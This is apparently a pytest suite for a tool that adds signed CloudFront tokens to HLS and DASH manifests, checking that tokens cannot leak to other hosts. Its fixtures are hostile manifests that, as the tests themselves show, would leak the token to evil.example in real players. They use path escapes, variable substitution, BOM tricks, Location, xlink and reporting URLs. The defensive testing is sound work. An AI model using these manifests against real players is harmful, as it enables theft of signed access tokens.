"""The rewriter agrees with the players: every case is a way hls.js, Shaka or dash.js resolve a URI that
the text as written does not show (players.py models them from their source).

Each leak case checks three things: what a player would request had the URI simply been tokenized (the
reason for the rule: the token reaches another host or title), what the rewriter serves instead (exact
bytes, or the documented refusal), and that the players request nothing with the token outside the title
from what it serves.
"""

from __future__ import annotations

import pytest
from cloudfront_token.policy import Scope, Token
from manifest_rewriter.dash import MAX_ALTERNATIVE_BASES, MAX_BASE_WORK, rewrite_mpd
from manifest_rewriter.hls import rewrite_hls
from manifest_rewriter.scope import ManifestError, UnsafeManifestError, UriScope

from tests.functions.manifest_rewriter import players

HOST = "d111111abcdef8.cloudfront.net"
TITLE = "t1"
TOKEN = Token(policy="P0l-_~", signature="S1g-_~", key_pair_id="K1")
SCOPE = UriScope(TOKEN, Scope(host=HOST, title_id=TITLE))
QUERY = TOKEN.query
SECRETS = (TOKEN.policy, TOKEN.signature)  # Key-Pair-Id is public; either of these is the token
XML_QUERY = QUERY.replace("&", "&amp;")
MASTER = f"/vod/{TITLE}/master.m3u8"
MEDIA = f"/vod/{TITLE}/video/index.m3u8"
MPD = f"/vod/{TITLE}/manifest.mpd"
NS = 'xmlns="urn:mpeg:dash:schema:mpd:2011"'


def viewer_url(path: str) -> str:
    """The URL the player loaded the manifest from: the viewer's signed URL."""
    return f"https://{HOST}{path}?{QUERY}"


def hls_leaks(text: str, path: str = MEDIA) -> list[str]:
    if players.hls_moves_tokens(text) and QUERY in text:
        return ["content steering may move every tokenized URI"]
    return players.leaks(players.hls_requests(text, viewer_url(path)), SECRETS, HOST, TITLE)


def dash_leaks(text: str) -> list[str]:
    data = text.encode()
    if players.dash_moves_tokens(data):
        return ["patches, steering, reporting, URL parameters or remote content may move the token"]
    return players.leaks(players.dash_requests(data, viewer_url(MPD)), SECRETS, HOST, TITLE)


def hls(text: str, path: str = MEDIA) -> str:
    """The rewriter's answer, checked against the players."""
    out = rewrite_hls(text, SCOPE, path)
    assert hls_leaks(out, path) == []
    return out


def dash(text: str) -> str:
    out = rewrite_mpd(text.encode(), SCOPE, MPD).decode()
    assert dash_leaks(out) == []
    return out


def mpd(body: str, namespaces: str = "") -> str:
    return f'<?xml version="1.0" encoding="UTF-8"?>\n<MPD {NS}{namespaces} type="static">\n{body}\n</MPD>\n'


# --- HLS: variables ---------------------------------------------------------------------------------------

VARIABLE_CASES = {
    # hls.js substitutes {$name} (src/utils/variable-substitution.ts), then resolves: the host comes from VALUE.
    "URI line": ('#EXT-X-DEFINE:NAME="h",VALUE="//evil.example"\n#EXTINF:4,\n{$h}/seg.ts\n', "{$h}/seg.ts"),
    "URI attribute": (
        '#EXT-X-DEFINE:NAME="h",VALUE="https://evil.example"\n#EXT-X-MAP:URI="{$h}/init.mp4"\n',
        "{$h}/init.mp4",
    ),
    # Shaka decodes %7B and %7D before substituting (lib/hls/hls_utils.js variableSubstitution).
    "Shaka's percent-encoded braces": (
        '#EXT-X-DEFINE:NAME="h",VALUE="//evil.example"\n#EXTINF:4,\n%7B$h%7D/seg.ts\n',
        "%7B$h%7D/seg.ts",
    ),
    # A VALUE may itself hold a dot-segment escape: the path leaves the title.
    "path from a variable": ('#EXT-X-DEFINE:NAME="p",VALUE="../../other"\n#EXTINF:4,\n{$p}/seg.ts\n', "{$p}/seg.ts"),
}


@pytest.mark.parametrize("case", VARIABLE_CASES)
def test_hls_a_uri_with_a_variable_reference_is_passed_through_untouched(case: str):
    text, uri = VARIABLE_CASES[case]
    source = "#EXTM3U\n" + text + "#EXTINF:4,\nplain.ts\n"
    assert hls_leaks(source.replace(uri, f"{uri}?{QUERY}")) != []  # why: tokenized, the player sends it away
    assert hls(source) == source.replace("plain.ts", f"plain.ts?{QUERY}")


@pytest.mark.parametrize(
    ("define", "name"),
    [
        ('#EXT-X-DEFINE:QUERYPARAM="Signature"', "Signature"),
        ("#EXT-X-DEFINE:QUERYPARAM=Policy", "Policy"),  # hls.js accepts an unquoted value, with a warning
        ('# see #EXT-X-DEFINE:QUERYPARAM="Policy"', "Policy"),  # hls.js's multivariant pattern is not anchored
    ],
)
def test_hls_queryparam_is_refused_because_it_copies_the_token_from_the_playlist_url(define: str, name: str):
    source = f"#EXTM3U\n{define}\n#EXT-X-STREAM-INF:BANDWIDTH=1\nhttps://evil.example/v.m3u8?t={{${name}}}\n"
    assert hls_leaks(source, MASTER) != []  # served as it is, without any tokenizing: evil.example gets it
    with pytest.raises(UnsafeManifestError, match="QUERYPARAM copies the playlist URL's query"):
        rewrite_hls(source, SCOPE, MASTER)


def test_hls_name_value_definitions_alone_change_nothing():
    source = '#EXTM3U\n#EXT-X-DEFINE:NAME="lang",VALUE="en"\n#EXT-X-STREAM-INF:BANDWIDTH=1\nvideo/index.m3u8\n'
    assert hls(source, MASTER) == source.replace("index.m3u8\n", f"index.m3u8?{QUERY}\n")


def test_hls_content_steering_is_refused():
    source = (
        '#EXTM3U\n#EXT-X-CONTENT-STEERING:SERVER-URI="https://steering.example/s.json",PATHWAY-ID="a"\n'
        '#EXT-X-STREAM-INF:BANDWIDTH=1,PATHWAY-ID="a"\nvideo/index.m3u8\n'
    )
    with pytest.raises(UnsafeManifestError, match="pathway clones move tokenized URIs"):
        rewrite_hls(source, SCOPE, MASTER)


# --- HLS: what JavaScript trims, and what url-toolkit reads as a scheme or as params -----------------------

TRIM_CASES = {
    # hls.js's URI pattern skips any JavaScript \s before the URI, U+FEFF included; Python's does not.
    "U+FEFF before a URI line": ("#EXTINF:4,\n \ufeffhttps://evil.example/x.ts\n", " \ufeffhttps://evil.example/x.ts"),
    # url-toolkit trims both URLs (String.prototype.trim) before resolving.
    "U+FEFF in a URI attribute": (
        '#EXT-X-KEY:METHOD=AES-128,URI="\ufeffhttps://evil.example/k"\n',
        "\ufeffhttps://evil.example/k",
    ),
    # url-toolkit's scheme pattern allows a leading digit; XHR then resolves "1a:…" against the page.
    "url-toolkit scheme": ("#EXTINF:4,\n1a://evil.example/x.ts\n", "1a://evil.example/x.ts"),
    # RFC 1808 ";params" of the last segment: url-toolkit climbs for "..;x", RFC 3986 does not.
    "url-toolkit params": ("#EXTINF:4,\n../..;x\n", "../..;x"),
}


@pytest.mark.parametrize("case", TRIM_CASES)
def test_hls_uris_that_players_read_differently_are_left_alone(case: str):
    text, uri = TRIM_CASES[case]
    source = "#EXTM3U\n" + text
    assert hls_leaks(source.replace(uri, f"{uri}?{QUERY}")) != []
    assert hls(source) == source


def test_hls_a_bom_only_counts_at_the_start_of_the_file():
    source = "\ufeff#EXTM3U\n#EXTINF:4,\nseg.ts\n#EXTINF:4,\n\ufeffseg2.ts\n"
    assert hls(source) == f"\ufeff#EXTM3U\n#EXTINF:4,\nseg.ts?{QUERY}\n#EXTINF:4,\n\ufeffseg2.ts\n"


# --- DASH: identifiers filled in before resolving ------------------------------------------------------------

TEMPLATE = '<SegmentTemplate media="{media}" initialization="{init}" startNumber="1"/>'


@pytest.mark.parametrize(
    ("attributes", "media"),
    [
        ('id="//evil.example/a" bandwidth="1"', "$RepresentationID$/seg-$Number$.m4s"),
        ('id="https://evil.example/a" bandwidth="1"', "$RepresentationID$/seg-$Number$.m4s"),
        ('id="../../other/a" bandwidth="1"', "$RepresentationID$/seg-$Number$.m4s"),
        ('id="/evil.example/a" bandwidth="1"', "/$RepresentationID$/seg-$Number$.m4s"),
        # dash.js pads even RepresentationID (CML processUriTemplate); Shaka ignores the width.
        ('id="//evil.example/a" bandwidth="1"', "$RepresentationID%02d$/seg-$Number$.m4s"),
        # dash.js keeps a non-numeric attribute as text (NumericMatcher) and fills it in as it is.
        ('id="v" bandwidth="//evil.example"', "$Bandwidth$/seg-$Number$.m4s"),
    ],
)
def test_dash_templates_filled_with_a_hostile_id_or_bandwidth_are_left_alone(attributes: str, media: str):
    body = (
        "<Period><AdaptationSet>"
        + TEMPLATE.format(media=media, init=media.replace("seg-$Number$.m4s", "init.mp4"))
        + f"<Representation {attributes}/></AdaptationSet></Period>"
    )
    naive = body.replace('.m4s"', f'.m4s?{XML_QUERY}"')
    assert dash_leaks(mpd(naive)) != []
    assert dash(mpd(body)) == mpd(body)


def test_dash_templates_filled_with_plain_ids_still_get_the_token():
    body = (
        "<Period><AdaptationSet>"
        + TEMPLATE.format(media="$RepresentationID$/seg-$Number%05d$.m4s", init="$RepresentationID$/init.mp4")
        + '<Representation id="v1080" bandwidth="6000000"/><Representation id="a_128k.en-2" bandwidth="128000"/>'
        + "</AdaptationSet></Period>"
    )
    assert dash(mpd(body)) == mpd(
        body.replace('.m4s"', f'.m4s?{XML_QUERY}"').replace('init.mp4"', f'init.mp4?{XML_QUERY}"')
    )


def test_dash_init_urls_are_filled_in_after_resolving_so_a_base_url_with_an_id_counts_too():
    # dash.js DashHandler._generateInitRequest: _setRequestUrl, then processUriTemplate on the absolute URL.
    body = (
        '<Period><AdaptationSet><Representation id="../../other" bandwidth="1"><BaseURL>$RepresentationID$/</BaseURL>'
        '<SegmentList><Initialization sourceURL="init.mp4"/></SegmentList></Representation></AdaptationSet></Period>'
    )
    naive = body.replace('init.mp4"', f'init.mp4?{XML_QUERY}"')
    assert dash_leaks(mpd(naive)) != []
    assert dash(mpd(body)) == mpd(body)


# --- DASH: where the base comes from --------------------------------------------------------------------------


def test_dash_a_prefixed_base_url_counts_with_and_without_it():
    # dash.js drops prefixes (DashParser.processXml); Shaka matches the exact tag name "BaseURL" (tXml.findChildren).
    body = (
        "<BaseURL>https://evil.example/</BaseURL>\n"
        f"<Period><x:BaseURL>https://{HOST}/vod/{TITLE}/</x:BaseURL>"
        '<AdaptationSet><SegmentTemplate media="seg-$Number$.m4s"/><Representation id="v"/></AdaptationSet></Period>'
    )
    source = mpd(body, ' xmlns:x="urn:example:other"')
    naive = source.replace('.m4s"', f'.m4s?{XML_QUERY}"')
    assert dash_leaks(naive) != []  # Shaka resolves the template against evil.example
    assert dash(source) == source.replace(f"/vod/{TITLE}/</x:BaseURL>", f"/vod/{TITLE}/?{XML_QUERY}</x:BaseURL>")


def test_dash_a_template_outside_a_representation_resolves_against_each_representations_base():
    body = (
        '<Period><AdaptationSet><SegmentTemplate media="seg-$Number$.m4s"/>'
        '<Representation id="a"><BaseURL>https://evil.example/</BaseURL></Representation>'
        '<Representation id="b"/></AdaptationSet></Period>'
    )
    naive = body.replace('.m4s"', f'.m4s?{XML_QUERY}"')
    assert dash_leaks(mpd(naive)) != []
    assert dash(mpd(body)) == mpd(body)


def test_dash_a_base_url_that_javascript_trims_differently_is_not_in_scope():
    # Shaka (tXml.getContents) and dash.js (CML parseXml) trim BaseURL text with JavaScript's trim(): U+FEFF too.
    body = (
        "<Period><BaseURL>\ufeffhttps://evil.example/</BaseURL><AdaptationSet><Representation id='v'>"
        '<SegmentList><SegmentURL media="seg.m4s"/></SegmentList></Representation></AdaptationSet></Period>'
    )
    naive = body.replace('.m4s"', f'.m4s?{XML_QUERY}"')
    assert dash_leaks(mpd(naive)) != []
    assert dash(mpd(body)) == mpd(body)


def test_dash_a_segment_url_dash_js_takes_for_absolute_is_left_alone():
    segment = '<SegmentURL media="a_b:x/seg.m4s"/>'
    body = f"<Period><AdaptationSet><SegmentList>{segment}</SegmentList></AdaptationSet></Period>"
    assert dash_leaks(mpd(body.replace('.m4s"', f'.m4s?{XML_QUERY}"'))) != []
    assert dash(mpd(body)) == mpd(body)


REFUSED = {
    # Shaka re-bases the whole MPD on Location (dash_parser.js processManifest_).
    "Location": ("<Location>https://evil.example/x/manifest.mpd</Location>", "", "Location re-bases the MPD"),
    "PatchLocation": ("<PatchLocation>https://evil.example/patch</PatchLocation>", "", "PatchLocation"),
    "ContentSteering": (
        "<ContentSteering>https://steering.example/s.json</ContentSteering>",
        "",
        "content steering",
    ),
    "Metrics": (
        '<Metrics metrics="HttpList"><Reporting schemeIdUri="urn:dvb:dash:reporting:2014" value="1" '
        'dvb:reportingUrl="https://evil.example/r"/></Metrics>',
        ' xmlns:dvb="urn:dvb:dash-extensions:2014-1"',
        "metrics reporting",
    ),
    "UrlQueryInfo": (
        '<EssentialProperty schemeIdUri="urn:mpeg:dash:urlparam:2014"><up:UrlQueryInfo useMPDUrlQuery="true"/>'
        "</EssentialProperty>",
        ' xmlns:up="urn:mpeg:dash:schema:urlparam:2014"',
        "URL parameters",
    ),
    "urlparam property": (
        '<SupplementalProperty schemeIdUri="urn:mpeg:dash:urlparam:2016" value="x"/>',
        "",
        "URL parameters",
    ),
    "xlink": (
        '<Period xlink:href="https://evil.example/p.xml" xlink:actuate="onLoad"/>',
        ' xmlns:xlink="http://www.w3.org/1999/xlink"',
        "xlink:href",
    ),
    "ImportedMPD": ('<Period><ImportedMPD uri="https://evil.example/m.mpd"/></Period>', "", "ImportedMPD"),
}


@pytest.mark.parametrize("case", REFUSED)
def test_dash_features_that_move_the_token_are_refused(case: str):
    element, namespaces, reason = REFUSED[case]
    body = element + '\n<Period><AdaptationSet><SegmentTemplate media="seg-$Number$.m4s"/></AdaptationSet></Period>'
    assert dash_leaks(mpd(body.replace('.m4s"', f'.m4s?{XML_QUERY}"'), namespaces)) != []
    with pytest.raises(UnsafeManifestError, match=reason):
        rewrite_mpd(mpd(body, namespaces).encode(), SCOPE, MPD)


# --- DASH: well-formed output only ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "base",
    [
        "<BaseURL>video/<BaseURL>audio/</BaseURL></BaseURL>",  # nested: the edits would overlap
        "<BaseURL>video/<!-- -->https://evil.example/</BaseURL>",  # dash.js keeps the last text node only
        "<BaseURL><![CDATA[video/]]></BaseURL>",  # dash.js ignores CDATA; Shaka entity-decodes it
        "<BaseURL>video/<?pi x?></BaseURL>",
        '<BaseURL>video/<SegmentURL media="x.m4s"/></BaseURL>',
    ],
)
def test_dash_a_base_url_holding_anything_but_text_is_refused(base: str):
    body = f"<Period>{base}<AdaptationSet><SegmentTemplate media='s.m4s'/></AdaptationSet></Period>"
    with pytest.raises(ManifestError, match="BaseURL holds"):
        rewrite_mpd(mpd(body).encode(), SCOPE, MPD)


def test_dash_output_is_the_input_plus_tokens_byte_for_byte():
    body = (
        "<Period><AdaptationSet><SegmentList>"
        '<SegmentURL media="&#101;.m4s"/><SegmentURL media="seg&amp;1.m4s"/>'
        "</SegmentList></AdaptationSet></Period>"
    )
    assert dash(mpd(body)) == mpd(
        body.replace('&#101;.m4s"', f'&#101;.m4s?{XML_QUERY}"').replace('1.m4s"', f'1.m4s?{XML_QUERY}"')
    )
    with pytest.raises(ManifestError, match="character references"):
        rewrite_mpd(mpd(body.replace("&#101;.m4s", "a.m4s&#63;x=1")).encode(), SCOPE, MPD)


# --- DASH: bounded work --------------------------------------------------------------------------------------


def _alternatives(count: int) -> str:
    bases = "".join(f"<BaseURL>a{i}/</BaseURL>" for i in range(count))
    return (
        f"{bases}<Period>{bases}<AdaptationSet>{bases}<Representation id='r'>{bases}"
        "<SegmentList><SegmentURL media='../s.m4s'/></SegmentList></Representation></AdaptationSet></Period>"
    )


def test_dash_alternative_base_urls_are_refused_past_the_documented_limit():
    assert 2**4 <= MAX_ALTERNATIVE_BASES < 3**4  # two or three alternatives at each of the four levels
    assert dash(mpd(_alternatives(2))).count(f"../s.m4s?{XML_QUERY}") == 1
    with pytest.raises(UnsafeManifestError, match=f"more than {MAX_ALTERNATIVE_BASES} alternative"):
        rewrite_mpd(mpd(_alternatives(3)).encode(), SCOPE, MPD)


def test_dash_base_resolutions_are_refused_past_the_documented_budget():
    period = "".join(f"<BaseURL>p{i}/</BaseURL>" for i in range(MAX_ALTERNATIVE_BASES))
    # Each of these names the same directory: the alternatives stay few, the work does not.
    adaptation = "".join(f"<BaseURL>a/x{i}/../</BaseURL>" for i in range(MAX_BASE_WORK // MAX_ALTERNATIVE_BASES + 1))
    body = f"<Period>{period}<AdaptationSet>{adaptation}<SegmentTemplate media='s.m4s'/></AdaptationSet></Period>"
    with pytest.raises(UnsafeManifestError, match=f"more than {MAX_BASE_WORK} base resolutions"):
        rewrite_mpd(mpd(body).encode(), SCOPE, MPD)
